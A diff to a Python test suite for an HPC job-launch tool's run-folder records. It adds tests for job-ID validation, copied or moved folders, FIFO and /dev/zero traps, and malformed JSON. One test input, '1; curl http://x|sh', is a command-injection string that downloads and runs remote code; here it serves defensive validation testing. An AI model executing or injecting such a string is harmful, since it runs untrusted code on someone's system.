@@ -1,10 +1,12 @@
 """The run folder's files: whole or not there, and read back as written."""
 
 import os
+import shutil
 import signal
 import subprocess
 import sys
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import msgspec
@@ -63,7 +65,7 @@ RECORDS = st.builds(
     program=st.lists(WORDS),
     mode=st.sampled_from(["sbatch", "srun", "local"]),
     gpu=st.none() | WORDS,
-    job_id=st.none() | WORDS,
+    job_id=st.none() | st.from_regex(r"[0-9]{1,9}(_[0-9]{1,3})?", fullmatch=True),
     pid=st.none() | st.integers(1, 2**22),
 )
 
@@ -73,7 +75,8 @@ RECORDS = st.builds(
 def test_a_record_is_read_as_written(written: Record, tmp_path: Path) -> None:
     folder = RunFolder(tmp_path)
     write_record(folder, written)
-    assert read_record(folder) == written
+    here = {"name": tmp_path.name, "folder": str(tmp_path)}
+    assert read_record(folder) == msgspec.structs.replace(written, **here)
     assert folder.record.read_text(encoding="utf-8").count("\n") > 5, "a person can read it"
 
 
@@ -110,7 +113,56 @@ def test_a_newer_record_asks_for_a_newer_hpclaunch(tmp_path: Path) -> None:
 def test_keys_that_a_later_version_added_are_passed_over(tmp_path: Path) -> None:
     folder = RunFolder(tmp_path)
     folder.record.write_bytes(msgspec.json.encode(msgspec.to_builtins(record()) | {"new": 1}))
-    assert read_record(folder) == record()
+    assert read_record(folder) == record(name=tmp_path.name)
+
+
+@pytest.mark.parametrize("job_id", ["--me", "1; curl http://x|sh", "7 8", "", "7_", "\u0667"])
+def test_what_is_no_number_of_a_job_is_refused(tmp_path: Path, job_id: str) -> None:
+    folder = RunFolder(tmp_path)
+    write_record(folder, record(job_id=job_id))
+    with pytest.raises(UserError, match="no number of a job"):
+        read_record(folder)
+    write_record(folder, record(job_id="7"))
+    folder.job_file.write_text(job_id)
+    assert read_record(folder).job_id == "7"
+
+
+@pytest.mark.parametrize("how", [shutil.copytree, shutil.move])
+def test_a_copied_or_moved_folder_is_a_run_of_its_own(
+    tmp_path: Path, how: Callable[[Path, Path], object]
+) -> None:
+    base = RunFolder(tmp_path / "base")
+    base.root.mkdir()
+    write_record(base, record(name="base", job_id="7", pid=1, pid_started=1))
+    base.job_file.write_text("8")
+    (tmp_path / "link").symlink_to(base.root)
+    assert read_record(RunFolder(tmp_path / "link")).job_id == "8", "the same by another path"
+    how(base.root, tmp_path / "copy")
+    copy = read_record(RunFolder(tmp_path / "copy"))
+    assert (copy.name, copy.job_id, copy.pid, copy.pid_started) == ("copy", None, None, None)
+
+
+@pytest.mark.parametrize("put", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")])
+@pytest.mark.parametrize("name", ["job_id", "run.json"])
+def test_what_is_no_file_holds_nobody_up(
+    tmp_path: Path, name: str, put: Callable[[Path], object]
+) -> None:
+    folder = RunFolder(tmp_path)
+    write_record(folder, record(job_id="7"))
+    (tmp_path / name).unlink(missing_ok=True)
+    put(tmp_path / name)
+    if name == "job_id":
+        assert read_record(folder).job_id == "7"
+    else:
+        with pytest.raises(UserError, match=r"run\.json"):
+            read_record(folder)
+
+
+@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 100_000, " " * (1 << 23), "1e999"])
+def test_a_record_that_is_none_is_one_line(tmp_path: Path, text: str) -> None:
+    (tmp_path / "run.json").write_text(text)
+    with pytest.raises(UserError, match=r"run\.json"):
+        read_record(RunFolder(tmp_path))
 
 
 def test_a_folder_without_a_record_is_no_run(tmp_path: Path) -> None:
